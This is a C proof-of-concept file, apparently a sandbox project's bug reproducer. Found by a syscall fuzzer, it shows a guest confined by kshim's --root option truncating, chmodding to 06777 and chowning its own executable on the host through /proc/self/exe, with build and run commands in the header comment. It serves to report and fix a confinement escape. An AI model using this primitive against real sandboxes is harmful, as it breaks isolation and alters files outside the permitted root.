/* proc_exe_escape: found by fuzz_syscalls (seeds 3, 5, 9). A guest
 * confined with --root DIR (even without --rw) changes its own executable
 * on the host, outside DIR, through kshim's /proc/self/exe magic link:
 * truncate, chmod, chown and utimensat succeed (Linux: truncate gives
 * ETXTBSY; and the file is outside the guest's root). Not built by make:
 *
 *   gcc -static -O2 -o /tmp/pe proc_exe_escape.c && cp /tmp/pe /tmp/pe2
 *   mkdir -p /tmp/r && bin/kshim run --root /tmp/r /tmp/pe2; ls -l /tmp/pe2
 *
 * (/tmp/pe2 ends up 2 bytes long, mode 6777, owned by 1:1.) */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#define SHOW(what, r) printf("%-40s -> %d %s\n", what, (int)(r), (r) < 0 ? strerrorname_np(errno) : "")
int main(void) {
	SHOW("open(/proc/self/exe, O_WRONLY)", open("/proc/self/exe", O_WRONLY));
	SHOW("open(/proc/self/exe, O_RDONLY)", open("/proc/self/exe", O_RDONLY));
	SHOW("truncate(/proc/self/exe, 2)", truncate("/proc/self/exe", 2));
	SHOW("chmod(/proc/self/exe, 06777)", chmod("/proc/self/exe", 06777));
	SHOW("chown(/proc/self/exe, 1, 1)", chown("/proc/self/exe", 1, 1));
	SHOW("utimensat(/proc/self/exe)", utimensat(AT_FDCWD, "/proc/self/exe", NULL, 0));
	int fd = open("/proc/self/exe", O_RDONLY);
	SHOW("fchmod(exe fd, 06777)", fchmod(fd, 06777));
	SHOW("ftruncate(exe fd, 2)", ftruncate(fd, 2));
	SHOW("fchown(exe fd, 1, 1)", fchown(fd, 1, 1));
	SHOW("link(/proc/self/exe, x)", link("/proc/self/exe", "x"));
	SHOW("rename(/proc/self/exe, y)", rename("/proc/self/exe", "y"));
	SHOW("unlink(/proc/self/exe)", unlink("/proc/self/exe"));
	return 0;
}
